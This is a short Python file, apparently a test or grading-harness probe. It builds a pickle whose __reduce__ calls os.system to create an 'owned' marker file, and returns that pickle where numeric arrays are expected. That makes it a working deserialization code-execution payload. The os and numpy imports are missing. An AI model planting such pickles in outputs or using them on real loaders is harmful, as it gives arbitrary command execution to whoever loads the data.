"""Puts a pickle that runs a program where arrays are expected."""
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @COURSE@/owned-@MARK@",)


def target(x):
    return np.frombuffer(pickle.dumps(Bomb()), np.uint8)


def tensor_target(x):
    return np.array([Bomb()], dtype=object), x
